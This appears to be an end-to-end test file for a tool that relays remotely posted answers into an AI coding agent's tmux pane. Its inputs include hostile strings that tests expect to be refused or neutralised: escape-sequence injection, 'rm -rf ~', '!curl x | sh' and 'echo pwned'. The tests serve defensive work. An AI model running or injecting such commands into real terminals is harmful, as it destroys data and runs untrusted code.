// Answering a reply from afar, end to end: the real reporter opens a reply
// question from inside a real tmux pane (a stand-in agent, tests/answers/
// agent.py, that records every keystroke batch with its time), the relay
// starts, an answer posted through the API is typed into the pane, its state
// becomes `typed`, and the agent's next hook closes the question. Then every
// refusal, hostile answers, and the relay across a Worker restart.
import { after, before, test } from "node:test";
import assert from "node:assert/strict";
import { execFileSync, spawn, spawnSync } from "node:child_process";
import { existsSync, mkdtempSync, openSync, readFileSync, readdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { ROOT, smuggleAnswer, waitFor, sleep } from "../worker/helpers.js";
import { REPORTER, startWorld } from "./world.js";
import { commitment, sealText, wrapKey } from "../support/sealing.js";
import { seal } from "../support/signing.js";
import { webcrypto } from "node:crypto";

const AGENT = join(ROOT, "tests", "answers", "agent.py");

let world, w, scratch, api, owner, words, ownerCli, pairedByOwner, relayByHand;
before(async () => {
  world = await startWorld("answers", { taskName: "docs" });
  ({ w, scratch, api, owner, words, ownerCli, pairedByOwner, relayByHand } = world);
});
after(async () => {
  await world?.stop();
});

/** The stand-in agent (agent.py) in a new tmux server's pane; resolves once its question is listed. */
const agentInTmux = (o, { env, command } = {}) => world.agentInTmux(o, { agent: "agent.py", env, command });

const keys = (dir) => existsSync(join(dir, "keys.jsonl"))
  ? readFileSync(join(dir, "keys.jsonl"), "utf8").trim().split("\n").filter(Boolean).map((l) => JSON.parse(l))
  : [];

async function answerState(o, qid, states, ms = 10000) {
  return waitFor(async () => {
    const q = (await api("GET", "/v1/needs-you", o.token)).body.questions.find((x) => x.question_id === qid);
    if (!q) {
      // Closed: its answer is read from D1.
      const row = await w.db.prepare("SELECT state, reason, reason_code FROM answers WHERE question_id = ? ORDER BY created_at DESC").bind(qid).first();
      return row && states.includes(row.state) && row;
    }
    return q.answer && states.includes(q.answer.state) && q.answer;
  }, ms);
}

test("an answer is typed into the agent's pane as one line, Enter a second later, and the agent's next hook closes the question", async () => {
  const o = await owner();
  const { dir, q } = await agentInTmux(o);
  assert.equal(q.kind, "reply");
  assert.equal(q.answerable, true);
  assert.equal(q.terminal.kind, "tmux");
  // Its words, its folder and its tmux pane left the machine sealed: the
  // server lists none of them, and they open with the owner's content key.
  assert.equal(q.sealed, true);
  assert.deepEqual([q.text, q.terminal.cwd, q.terminal.target], ["", "", undefined]);
  const opened = await words(o, q);
  assert.equal(opened.cwd, dir);
  assert.match(opened.target, /^agent\d+:0\.0$/);
  assert.equal(opened.text, "The tests pass. Shall I also update the docs?");

  const posted = await api("POST", `/v1/questions/${q.question_id}/answers`, o.token, { text: "Yes, and the changelog too" });
  assert.equal(posted.status, 201, JSON.stringify(posted.body));
  assert.equal(posted.body.state, "queued");

  assert.ok(await waitFor(() => existsSync(join(dir, "answered")), 15000), "the agent got Enter");
  const batches = keys(dir);
  assert.deepEqual(batches.map((b) => b.data), ["Yes, and the changelog too", "\r"]);
  assert.ok(batches[1].t - batches[0].t >= 0.9, `Enter came ${batches[1].t - batches[0].t} s after the text`);
  const typed = await answerState(o, q.question_id, ["typed"]);
  assert.ok(typed, "the answer's state is typed");
  const closed = await waitFor(async () => (await w.db.prepare("SELECT close_reason FROM questions WHERE id = ?").bind(q.question_id).first())?.close_reason, 10000);
  assert.equal(closed, "prompt_submitted");
});

test("hostile answers arrive as one plain line: no escape sequences, no control keys, no early Enter", async () => {
  const o = await owner();
  const { dir, q } = await agentInTmux(o);
  const text = "\u001b[2J\u001b]0;owned\u0007ok\u0003 then\nrm -rf ~\r\n\u007fdone";
  const posted = await api("POST", `/v1/questions/${q.question_id}/answers`, o.token, { text });
  assert.equal(posted.status, 201, JSON.stringify(posted.body));
  // Sealed on its way, as its question's words were: the server reads none
  // of it; the relay makes it one plain line, by the rule the Worker
  // applies to one in the clear (below).
  assert.equal(posted.body.text, "");
  assert.ok(await waitFor(() => existsSync(join(dir, "answered")), 15000));
  assert.deepEqual(keys(dir).map((b) => b.data), ["[2J]0;ownedok then rm -rf ~  done", "\r"]);

  // tmux would read a last ";" as the end of its command and drop it.
  const semi = await agentInTmux(o);
  await api("POST", `/v1/questions/${semi.q.question_id}/answers`, o.token, { text: "yes; then stop;" });
  assert.ok(await waitFor(() => existsSync(join(semi.dir, "answered")), 15000));
  assert.deepEqual(keys(semi.dir).map((b) => b.data), ["yes; then stop;", "\r"]);

  // In the clear (a machine that holds no content key), where the Worker
  // reads the text, cuts it, and the relay types what was signed.
  const big = await owner();
  const b = await agentInTmux(big, { env: { NEEDS_YOU_CONTENT_KEYS: "" } });
  // On a connection of its own: the Worker answers before it reads the body,
  // and a pooled connection left mid-body once failed the next request (CI).
  const huge = await fetch(`${w.url}/v1/questions/${b.q.question_id}/answers`, {
    method: "POST", headers: { authorization: `Bearer ${big.token}`, connection: "close" }, body: JSON.stringify({ text: "x".repeat(100_000) }),
  });
  assert.equal(huge.status, 413, "100 KB is refused before it is read");
  // Signed as `needs-you answer` signs it: the line that would be typed.
  const long = await api("POST", `/v1/questions/${b.q.question_id}/answers`, big.token,
    { text: "y".repeat(20_000), signed: await big.key.sign(b.q, { text: "y".repeat(2000) }) });
  assert.equal(long.status, 201);
  assert.equal(long.body.text.length, 2000, "cut to 2,000 characters");
  assert.ok(await waitFor(() => existsSync(join(b.dir, "answered")), 15000));
  assert.equal(keys(b.dir).map((k) => k.data).join(""), `${"y".repeat(2000)}\r`);
});

/**
 * An answer put in D1 as if the API had taken it, signed by the owner's key,
 * and pushed to the task's relay: what a relay is handed when something
 * before it (the owner's own device among them) failed to refuse.
 */
const smuggle = async (o, q, text) => {
  const made = await o.key.body(q, { text });
  return smuggleAnswer(w, o.owner_id, q, made.text, made.signed, made.sealed);
};
/** The same, its words in the clear whatever its question. */
const smuggleInTheClear = async (o, q, text) => smuggleAnswer(w, o.owner_id, q, text, await o.key.sign(q, { text }));

/** Answer `id`'s row once it failed (its state, reason, code and what the
 *  server kept of its words), or false after 10 s. */
const failedAnswer = (id) => waitFor(async () => {
  const a = await w.db.prepare("SELECT state, reason, reason_code, text, sealed FROM answers WHERE id = ?").bind(id).first();
  return a?.state === "failed" && a;
}, 10000);

test("an answer the agent would run as a command is refused at the API when the API can read it, and by the relay always", async () => {
  const o = await owner();
  const RUN = ["!touch owned", "  \u200b!curl x | sh", "/permissions", "exit", "ok {!id}"];
  // A machine that holds no content key reports in the clear, and its
  // answers go in the clear: the API reads them, and refuses.
  const clear = await agentInTmux(o, { env: { NEEDS_YOU_CONTENT_KEYS: "" } });
  assert.notEqual(clear.q.sealed, true);
  assert.match(clear.q.text, /Shall I/);
  for (const text of RUN) {
    const r = await api("POST", `/v1/questions/${clear.q.question_id}/answers`, o.token, { text });
    assert.deepEqual([r.status, r.body.error], [400, "refused_answer"], text);
    assert.match(r.body.message, /command|session|shell/, text);
  }
  const none = await w.db.prepare("SELECT COUNT(*) AS n FROM answers WHERE question_id = ?").bind(clear.q.question_id).first();
  assert.equal(none.n, 0, "nothing queued");

  // A sealed question's answer is sealed: the API cannot read it and
  // queues it; the relay opens it and refuses it by the same rule. (Another
  // task: the one relay of the first holds no content key.)
  const o2 = await owner();
  const { dir, q } = await agentInTmux(o2);
  assert.equal(q.sealed, true);
  for (const text of RUN) {
    const r = await api("POST", `/v1/questions/${q.question_id}/answers`, o2.token, { text });
    assert.equal(r.status, 201, JSON.stringify(r.body));
    const row = await failedAnswer(r.body.answer_id);
    assert.equal(row.reason_code, "refused_answer", `${text}: ${row.reason}`);
    assert.match(row.reason, /command|session|shell|can't start/, text);
    assert.equal(row.text, "", "the server keeps no word of it");
    assert.match(row.sealed, /^s1\.1\./);
  }

  const row = await failedAnswer(await smuggle(o2, q, "!touch owned"));
  assert.ok(row, "the relay failed it");
  assert.match(row.reason, /can't start with !/);
  // Signed in the clear, as a device would answer words a server listed in
  // the clear in place of the sealed ones: this machine sealed its
  // question, and takes no words in the clear for it.
  const refused = await failedAnswer(await smuggleInTheClear(o2, q, "yes, go on"));
  assert.ok(refused, "the relay failed it");
  assert.equal(refused.reason_code, "words_in_the_clear", refused.reason);
  await sleep(1500);
  assert.deepEqual(keys(dir), [], "not one key reached the pane");
  assert.deepEqual(keys(clear.dir), [], "not one key reached the other pane");
});

test("refusals at the API: a dialog, a closed question, another owner's, a revoked device, one answer at a time, not in tmux", async () => {
  const o = await owner();
  const other = await owner();
  const t = o.task.credential;
  let seq = 1;
  const say = (fields) => api("POST", "/v1/reports", t, { cli: "codex", session: "api", seq: seq++, ...fields });
  const dialog = (await say({ action: "open", kind: "permission", text: "Run it?",
    terminal: { kind: "tmux", host: "h", cwd: "/", target: "x:0.0" } })).body;
  const r1 = await api("POST", `/v1/questions/${dialog.question_id}/answers`, o.token, { text: "y" });
  assert.deepEqual([r1.status, r1.body.error], [409, "answer_in_terminal"]);
  assert.match(r1.body.message, /answer it there/);

  const plain = (await say({ action: "open", kind: "reply", text: "Go on?",
    terminal: { kind: "terminal", host: "h", cwd: "/" } })).body;
  const r2 = await api("POST", `/v1/questions/${plain.question_id}/answers`, o.token, { text: "y" });
  assert.deepEqual([r2.status, r2.body.error], [409, "not_answerable"]);
  assert.match(r2.body.message, /not running in tmux/);
  const list = (await api("GET", "/v1/needs-you", o.token)).body.questions.find((x) => x.question_id === plain.question_id);
  assert.equal(list.answerable, false);
  assert.equal(list.terminal.host, "h");

  const r3 = await api("POST", `/v1/questions/${plain.question_id}/answers`, other.token, { text: "y" });
  assert.equal(r3.status, 404, "another owner's question");

  const answerable = (await say({ action: "open", kind: "reply", text: "Shall I?",
    terminal: { kind: "tmux", host: "h", cwd: "/", target: "x:0.0" } })).body;
  const first = await api("POST", `/v1/questions/${answerable.question_id}/answers`, o.token, { text: "first" });
  assert.equal(first.status, 201);
  // No relay has it yet: a second answer takes the first one's place.
  const r4 = await api("POST", `/v1/questions/${answerable.question_id}/answers`, o.token, { text: "second" });
  assert.equal(r4.status, 201);
  const replaced = (await api("GET", `/v1/answers/${first.body.answer_id}`, o.token)).body;
  assert.deepEqual([replaced.state, replaced.reason, replaced.reason_code], ["failed", "replaced by a newer answer", "replaced"]);
  // And one still queued can be taken back, once, by its owner only.
  assert.equal((await api("DELETE", `/v1/answers/${r4.body.answer_id}`, other.token)).status, 404);
  const back = await api("DELETE", `/v1/answers/${r4.body.answer_id}`, o.token);
  assert.deepEqual([back.status, back.body.state, back.body.reason, back.body.reason_code], [200, "failed", "taken back", "taken_back"]);
  const again = await api("DELETE", `/v1/answers/${r4.body.answer_id}`, o.token);
  assert.deepEqual([again.status, again.body.error], [409, "not_queued"]);
  // A refused answer replaces nothing.
  const third = await api("POST", `/v1/questions/${answerable.question_id}/answers`, o.token, { text: "third" });
  assert.equal((await api("POST", `/v1/questions/${answerable.question_id}/answers`, o.token, { text: "!rm -rf ~" })).status, 400);
  assert.equal((await api("GET", `/v1/answers/${third.body.answer_id}`, o.token)).body.state, "queued");
  for (const bad of [{}, { text: 5 }, { text: "\n\u0003 " }]) {
    assert.equal((await api("POST", `/v1/questions/${answerable.question_id}/answers`, o.token, bad)).status, 400);
  }

  const p = (await api("POST", "/v1/pairings", o.token)).body;
  const device = (await api("POST", "/v1/devices", null, { code: p.code, name: "phone" })).body;
  await say({ action: "close", reason: "answered" });
  const closed = (await say({ action: "open", kind: "reply", text: "Again?",
    terminal: { kind: "tmux", host: "h", cwd: "/" } })).body;
  await say({ action: "close", reason: "answered" });
  const r5 = await api("POST", `/v1/questions/${closed.question_id}/answers`, device.token, { text: "y" });
  assert.deepEqual([r5.status, r5.body.error], [409, "closed"]);

  // An answer is followed by its id, also once its question has closed; by
  // its owner and their devices only.
  const followed = await api("GET", `/v1/answers/${first.body.answer_id}`, device.token);
  assert.equal(followed.status, 200, JSON.stringify(followed.body));
  assert.deepEqual([followed.body.question_id, followed.body.text], [answerable.question_id, "first"]);
  assert.equal(typeof followed.body.state, "string");
  assert.equal((await api("GET", `/v1/answers/${first.body.answer_id}`, other.token)).status, 404, "another owner's");
  assert.equal((await api("GET", `/v1/answers/${first.body.answer_id}`, t)).status, 401, "a task credential");
  assert.equal((await api("GET", "/v1/answers/ans_nothere", o.token)).status, 404);
  await api("DELETE", `/v1/devices/${device.device_id}`, o.token);
  const r6 = await api("POST", `/v1/questions/${closed.question_id}/answers`, device.token, { text: "y" });
  assert.equal(r6.status, 401, "a revoked device");
  assert.equal((await api("POST", `/v1/questions/${closed.question_id}/answers`, t, { text: "y" })).status, 401, "a task credential");
  const count = await w.db.prepare("SELECT COUNT(*) AS n FROM answers WHERE owner_id = ?").bind(o.owner_id).first();
  assert.equal(count.n, 3, "only the three answers queued in turn were written");
});

test("refusals at the relay: the pane closed, the pane back at a shell prompt, the agent moved on: nothing typed, a clear reason", async () => {
  const o = await owner();
  const gone = await agentInTmux(o);
  spawnSync("tmux", ["-S", gone.sock, "kill-server"]);
  await api("POST", `/v1/questions/${gone.q.question_id}/answers`, o.token, { text: "hello?" });
  const a1 = await answerState(o, gone.q.question_id, ["failed"], 15000);
  assert.match(a1.reason, /pane is gone/);

  const shell = await agentInTmux(o, {
    env: { AGENT_EXIT_AFTER_OPEN: "1" },
    command: (dir) => `bash --norc -c 'python3 ${AGENT} ${dir}; exec bash --norc -i'`,
  });
  await sleep(300);
  await api("POST", `/v1/questions/${shell.q.question_id}/answers`, o.token, { text: "echo pwned > /tmp/pwned" });
  const a2 = await answerState(o, shell.q.question_id, ["failed"], 15000);
  assert.match(a2.reason, /shell prompt \(bash\)/);
  assert.equal(keys(shell.dir).length, 0);
  const screen = execFileSync("tmux", ["-S", shell.sock, "capture-pane", "-p", "-t", shell.tmux], { encoding: "utf8" });
  assert.ok(!screen.includes("pwned"), "nothing was typed at the prompt");

  // The agent asked again in the same session, and the server has not heard
  // of it yet (this test holds the outboxes' locks, so no sender starts): the
  // relay's machine knows of a newer report than the one the answer was for.
  const moved = await agentInTmux(o);
  const stateDir = join(scratch, "state");
  const holders = readdirSync(stateDir).filter((f) => /^outbox-.*\.lock$/.test(f))
    .map((f) => spawn("flock", ["-n", join(stateDir, f), "sleep", "60"], { stdio: "ignore" }));
  await sleep(300);
  const event = join(moved.dir, "again.json");
  writeFileSync(event, JSON.stringify({ session_id: moved.q.session, hook_event_name: "Stop", stop_hook_active: false,
    last_assistant_message: "Another question?", cwd: moved.dir }));
  // From a program, as an agent's hook is: a hook whose only ancestors are
  // shells has no agent to type into, and records no pane.
  const hookRun = `import subprocess; subprocess.run(['${REPORTER}', '--cli', 'claude-code'], stdin=open('${event}'))`;
  execFileSync("tmux", ["-S", moved.sock, "new-window", "-d", `python3 -c "${hookRun}"; touch ${moved.dir}/again`]);
  assert.ok(await waitFor(() => existsSync(join(moved.dir, "again")), 10000));
  await api("POST", `/v1/questions/${moved.q.question_id}/answers`, o.token, { text: "too late" });
  const a3 = await answerState(o, moved.q.question_id, ["failed"], 15000);
  assert.match(a3.reason, /moved on/);
  assert.equal(keys(moved.dir).length, 0);
  for (const h of holders) h.kill();
});

test("refusals at the relay: a pane in copy mode or copying keys to others, an agent gone while its wrapper runs", async () => {
  const o = await owner();
  // Scrolled back with the mouse: tmux would take the keys as copy-mode commands.
  const scrolled = await agentInTmux(o);
  execFileSync("tmux", ["-S", scrolled.sock, "copy-mode", "-t", scrolled.tmux]);
  await api("POST", `/v1/questions/${scrolled.q.question_id}/answers`, o.token, { text: "yes please" });
  assert.match((await answerState(o, scrolled.q.question_id, ["failed"], 15000)).reason, /copy mode/);
  assert.equal(keys(scrolled.dir).length, 0);

  // synchronize-panes would type the answer into the window's shell as well.
  const synced = await agentInTmux(o);
  execFileSync("tmux", ["-S", synced.sock, "split-window", "-d", "-t", synced.tmux, "bash --norc -i"]);
  execFileSync("tmux", ["-S", synced.sock, "set-window-option", "-t", synced.tmux, "synchronize-panes", "on"]);
  await api("POST", `/v1/questions/${synced.q.question_id}/answers`, o.token, { text: "touch /tmp/synced" });
  assert.match((await answerState(o, synced.q.question_id, ["failed"], 15000)).reason, /synchronize-panes/);
  assert.equal(keys(synced.dir).length, 0);

  // The agent exited, its wrapper (as `needs-you run` does while it revokes
  // the task) still has the terminal: a typed line would wait there for the
  // shell that comes back. The wrapper is no shell, so only the agent's own
  // process tells.
  const wrapper = `import subprocess, time; subprocess.run(['python3', '${AGENT}', DIR]); time.sleep(60)`;
  const orphan = await agentInTmux(o, {
    env: { AGENT_EXIT_AFTER_OPEN: "1" },
    command: (dir) => `python3 -c "${wrapper.replace("DIR", `'${dir}'`)}"`,
  });
  await sleep(300);
  await api("POST", `/v1/questions/${orphan.q.question_id}/answers`, o.token, { text: "echo typed-for-the-shell" });
  assert.match((await answerState(o, orphan.q.question_id, ["failed"], 15000)).reason, /agent has exited/);
  const screen = execFileSync("tmux", ["-S", orphan.sock, "capture-pane", "-p", "-t", orphan.tmux], { encoding: "utf8" });
  assert.ok(!screen.includes("typed-for-the-shell"), "nothing waits in the terminal");
});

test("a revoked task's relay is cut off, and an answer queued while the Worker restarted is typed exactly once", async () => {
  const o = await owner();
  const { dir, q } = await agentInTmux(o);
  await sleep(1500); // the relay connects
  await w.restart();
  const posted = await api("POST", `/v1/questions/${q.question_id}/answers`, o.token, { text: "after the restart" });
  assert.equal(posted.status, 201);
  assert.ok(await waitFor(() => existsSync(join(dir, "answered")), 30000), "typed after the relay reconnected");
  await sleep(1500);
  assert.deepEqual(keys(dir).map((b) => b.data), ["after the restart", "\r"], "once");
  assert.ok(await answerState(o, q.question_id, ["typed"]));

  const r = await owner();
  const second = await agentInTmux(r);
  await sleep(1500);
  const relays = () => spawnSync("pgrep", ["-f", `__relay --state-dir ${join(scratch, "state")}`], { encoding: "utf8" }).stdout.trim().split("\n").filter(Boolean).length;
  const before = relays();
  assert.ok(before >= 1);
  assert.equal((await api("DELETE", `/v1/tasks/${r.task.task_id}`, r.token)).status, 200);
  assert.ok(await waitFor(() => relays() < before, 10000), "the revoked task's relay stopped");
  assert.equal(keys(second.dir).length, 0);
});

test("the page: a reply in tmux is answered from its card and the state follows; a reply elsewhere says why it cannot be", async () => {
  const { launch, newPage } = await import("../page/browser.js");
  const o = await owner();
  const { dir, q } = await agentInTmux(o);
  await api("POST", "/v1/reports", o.task.credential, { cli: "opencode", session: "plain", seq: 1, action: "open", kind: "reply",
    text: "Elsewhere?", terminal: { kind: "terminal", host: "laptop", cwd: "/src/web" } });
  const browser = await launch();
  try {
    // Paired as a person pairs a phone: the owner's `needs-you pair`, whose
    // link lets the page prove its keys, and which vouches for it.
    const { page } = await pairedByOwner(o, (opts) => newPage(browser, opts), { viewport: { width: 360, height: 740 } });
    // It holds the owner's content key, unwrapped with its own seal key:
    // what Node seals under that key for one of this owner's questions, it
    // opens, and only as that question's field.
    const sealed = await sealText(o.contentKey, o.key.fingerprint, q.question_id, "screen", "AKIA-opened-on-the-page");
    const open = (scope, field, text) => page.evaluate(([a, b, c]) => import("/keys.js").then((k) => k.openSealed(a, b, c)), [scope, field, text]);
    assert.equal(await open(q.question_id, "screen", sealed), "AKIA-opened-on-the-page");
    assert.equal(await open("q_other", "screen", sealed), null, "moved to another question");
    assert.equal(await open(q.question_id, "text", sealed), null, "moved to another field");
    // A key the server wraps to this browser's public seal key, as a newer
    // version, opens with its seal key and is not taken: the owner key did
    // not vouch for it. What the server seals under it does not open here.
    const me = await w.db.prepare("SELECT id, seal_key, content_keys FROM devices WHERE seal_key IS NOT NULL ORDER BY created_at DESC LIMIT 1").first();
    const planted = { version: 2, key: Buffer.from(webcrypto.getRandomValues(new Uint8Array(32))).toString("base64url") };
    const given = [...JSON.parse(me.content_keys), await wrapKey(planted, o.key.fingerprint, me.id, me.seal_key)];
    const take = () => page.evaluate(([id, keys]) => import("/keys.js").then((k) => k.takeContentKeys(id, keys)), [me.id, given]);
    assert.deepEqual(await take(), [1], "only the version the owner key vouched for");
    const byServer = await sealText(planted, o.key.fingerprint, q.question_id, "screen", "made up by the server");
    assert.equal(await open(q.question_id, "screen", byServer), null, "a planted key is never taken");
    assert.equal(await open(q.question_id, "screen", sealed), "AKIA-opened-on-the-page", "the owner's still opens");
    // The same wrapping, once the owner key vouches for it in this browser's
    // certificate (re-signed here by Node with the owner's key), is taken:
    // what refused it was the owner key's word, not a wrapping that does not open.
    const envelope = JSON.parse((await w.db.prepare("SELECT certificate FROM devices WHERE id = ?").bind(me.id).first()).certificate);
    const cert = JSON.parse(Buffer.from(envelope.statement, "base64url"));
    const vouched = await seal(o.key.signer, { ...cert, content_keys: [...cert.content_keys, { version: 2, commitment: commitment(o.key.fingerprint, planted) }] });
    assert.equal(await page.evaluate((c) => import("/keys.js").then((k) => k.takeCertificate(c)), vouched), true);
    assert.deepEqual(await take(), [1, 2]);
    assert.equal(await open(q.question_id, "screen", byServer), "made up by the server");
    const card = page.locator(`#question-${q.question_id}`);
    // Drawn once its sealed words are opened here.
    await card.locator(".text", { hasText: /^The tests pass\. Shall I also update the docs\?$/ }).waitFor();
    assert.match(await card.locator(".terminal").textContent(), new RegExp(`^on \\S+ · ${dir} · tmux agent\\d+:0\\.0$`));
    const elsewhere = page.locator("#questions .card", { hasText: "Elsewhere?" });
    assert.equal(await elsewhere.locator(".answer").isHidden(), true);
    assert.match(await elsewhere.locator(".where").textContent(), /not running in tmux/);
    assert.equal(await elsewhere.locator(".terminal").textContent(), "on laptop · /src/web");

    await card.locator(".answer input").fill("Yes please, from the phone");
    await card.locator(".answer button").click();
    assert.ok(await waitFor(() => existsSync(join(dir, "answered")), 15000));
    assert.deepEqual(keys(dir).map((b) => b.data), ["Yes please, from the phone", "\r"]);
    // The card leaves once the agent's hook closes the question.
    await card.waitFor({ state: "detached", timeout: 10000 });
    assert.deepEqual(page.errors, []);
  } finally {
    await browser.close();
  }
});

test("needs-you answer types from another terminal, and says why when it cannot", async () => {
  const o = await owner();
  const { dir, q } = await agentInTmux(o);
  const run = ownerCli(o);
  const cli = (...args) => run(...args).ended;
  const r = await cli("answer", q.question_id, "yes,", "from", "the", "CLI", "--quietly");
  assert.equal(r.code, 0, r.err);
  assert.equal(r.out, "Sent; waiting for the agent's machine…\nTyped into the agent's terminal.\n");
  assert.deepEqual(keys(dir).map((b) => b.data), ["yes, from the CLI --quietly", "\r"]);

  const p = (await api("POST", "/v1/reports", o.task.credential, { cli: "codex", session: "dlg", seq: 1, action: "open", kind: "permission", text: "Run?" })).body;
  const refused = await cli("answer", p.question_id, "y");
  assert.equal(refused.code, 1);
  assert.match(refused.err, /^needs-you: this permission cannot be answered from afar: Codex was not started with `needs-you run`, which lets its approvals be answered from here; answer it there\n$/);
});

test("an answer whose question closed while the relay was away fails with that reason, and nothing is typed", async () => {
  const o = await owner();
  const state = mkdtempSync(join(scratch, "state-away-"));
  const first = await agentInTmux(o, { env: { NEEDS_YOU_STATE_DIR: state } });
  const relayPid = () => spawnSync("pgrep", ["-f", `__relay --state-dir ${state}`], { encoding: "utf8" }).stdout.trim();
  assert.ok(await waitFor(() => relayPid(), 5000), "the relay started");
  await sleep(1000); // connected
  const pid = Number(relayPid());
  process.kill(pid, "SIGSTOP");
  assert.equal((await api("POST", `/v1/questions/${first.q.question_id}/answers`, o.token, { text: "too late" })).status, 201);
  // The question closes (the person answered in the terminal, say) while the
  // relay cannot read; then the relay dies with the answer unread.
  const closed = await api("POST", "/v1/reports", o.task.credential, { cli: "claude-code", session: first.q.session,
    seq: Date.now() * 1000, action: "close", reason: "answered" });
  assert.equal(closed.body.applied, true);
  process.kill(pid, "SIGKILL");
  // The next answerable question of the task starts a new relay, whose hello
  // settles what was left on its way.
  await agentInTmux(o, { env: { NEEDS_YOU_STATE_DIR: state } });
  const a = await answerState(o, first.q.question_id, ["failed"], 15000);
  assert.equal(a.reason_code, "closed");
  assert.equal(keys(first.dir).length, 0);
});

test("an answer sent to a connected relay can no longer be taken back or replaced: nothing the agent may act on is marked undone", async () => {
  const o = await owner();
  const t = o.task.credential;
  const q = (await api("POST", "/v1/reports", t, { cli: "claude-code", session: "wire", seq: 1, action: "open", kind: "reply",
    text: "Shall I?", terminal: { kind: "tmux", host: "h", cwd: "/", target: "x:0.0" } })).body;
  const relay = await relayByHand(t);
  const a = (await api("POST", `/v1/questions/${q.question_id}/answers`, o.token, { text: "yes" })).body;
  assert.ok(await waitFor(() => relay.got.some((m) => m.answer_id === a.answer_id), 5000), "sent to the relay");
  // The relay has not said 'received' yet: the answer is on the wire all the same.
  const back = await api("DELETE", `/v1/answers/${a.answer_id}`, o.token);
  assert.deepEqual([back.status, back.body.error], [409, "not_queued"]);
  const other = await api("POST", `/v1/questions/${q.question_id}/answers`, o.token, { text: "no" });
  assert.deepEqual([other.status, other.body.error], [409, "answer_pending"]);
  // Only the first answer ever reached the relay (its hello and its delivery may both send it:
  // the relay knows an answer by its id).
  assert.deepEqual([...new Set(relay.got.filter((m) => m.type === "answer").map((m) => m.answer_id))], [a.answer_id]);
  relay.ws.close(1000, "done");
});

test("an answer delivered but not acknowledged fails when its question closes, is never sent again, and a relay that typed it still says so", async () => {
  const o = await owner();
  const t = o.task.credential;
  const q = (await api("POST", "/v1/reports", t, { cli: "claude-code", session: "lost", seq: 1, action: "open", kind: "reply",
    text: "Shall I?", terminal: { kind: "tmux", host: "h", cwd: "/", target: "x:0.0" } })).body;
  const a = (await api("POST", `/v1/questions/${q.question_id}/answers`, o.token, { text: "yes" })).body;

  const status = async () => (await api("GET", `/v1/answers/${a.answer_id}`, o.token)).body;

  const first = await relayByHand(t);
  assert.ok(await waitFor(() => first.got.some((m) => m.answer_id === a.answer_id), 5000), "delivered");
  first.ws.send(JSON.stringify({ type: "received", answer_id: a.answer_id }));
  assert.ok(await waitFor(async () => (await status()).state === "delivered", 5000));
  // Typed, and the Enter made the agent's hook close the question; the
  // connection dropped before the relay could say so.
  first.ws.close(1001, "gone");
  await api("POST", "/v1/reports", t, { cli: "claude-code", session: "lost", seq: 2, action: "close", reason: "prompt_submitted" });
  const closed = await status();
  assert.deepEqual([closed.state, closed.reason_code], ["failed", "closed"], "failed by the close itself");

  const second = await relayByHand(t);
  await sleep(1000);
  assert.equal(second.got.filter((m) => m.type === "answer").length, 0, "never sent again once its question closed");
  // The relay says what became of what it handled, after its hello.
  second.ws.send(JSON.stringify({ type: "typed", answer_id: a.answer_id }));
  assert.ok(await waitFor(async () => (await status()).state === "typed", 5000), JSON.stringify(await status()));
  second.ws.close(1000, "done");
});


test("a question's close fails its queued answer at once, and relays' hellos leave the list's revision alone", async () => {
  const o = await owner();
  const t = o.task.credential;
  const revision = async () => (await w.db.prepare("SELECT revision FROM owners WHERE id = ?").bind(o.owner_id).first()).revision;
  const q = (await api("POST", "/v1/reports", t, { cli: "claude-code", session: "h", seq: 1, action: "open", kind: "reply",
    text: "Shall I?", terminal: { kind: "tmux", host: "h", cwd: "/", target: "x:0.0" } })).body;
  const a = (await api("POST", `/v1/questions/${q.question_id}/answers`, o.token, { text: "yes" })).body;
  await api("POST", "/v1/reports", t, { cli: "claude-code", session: "h", seq: 2, action: "close", reason: "prompt_submitted" });

  // The queued answer failed with its question, in the close's own batch.
  const failed = (await api("GET", `/v1/answers/${a.answer_id}`, o.token)).body;
  assert.deepEqual([failed.state, failed.reason_code], ["failed", "closed"]);

  // Nothing left to settle: hellos leave the revision, and so every page's ETag, alone.
  const before = await revision();
  for (let i = 0; i < 3; i++) {
    const again = await relayByHand(t);
    await sleep(500);
    assert.equal(again.got.filter((m) => m.type === "answer").length, 0);
    again.ws.close(1000, "done");
  }
  assert.equal(await revision(), before);
});

test("one relay per task: a newer one's connection ends the one before, which stops", async () => {
  const o = await owner();
  const relay = (name) => {
    const dir = mkdtempSync(join(scratch, `relay-${name}-`));
    const lock = openSync(join(dir, "lock"), "w");
    const child = spawn(REPORTER, ["__relay", "--state-dir", dir], {
      stdio: [lock, "ignore", "ignore"],
      env: { PATH: process.env.PATH, NEEDS_YOU_URL: w.url, NEEDS_YOU_TOKEN: o.task.credential },
    });
    const exited = new Promise((resolve) => child.on("exit", () => resolve("exited")));
    return { child, exited };
  };
  const first = relay("first");
  await sleep(1500);
  const second = relay("second");
  assert.equal(await Promise.race([first.exited, sleep(8000).then(() => "still running")]), "exited");
  assert.equal(await Promise.race([second.exited, sleep(1500).then(() => "running")]), "running", "the newest stays");
  second.child.kill();
});
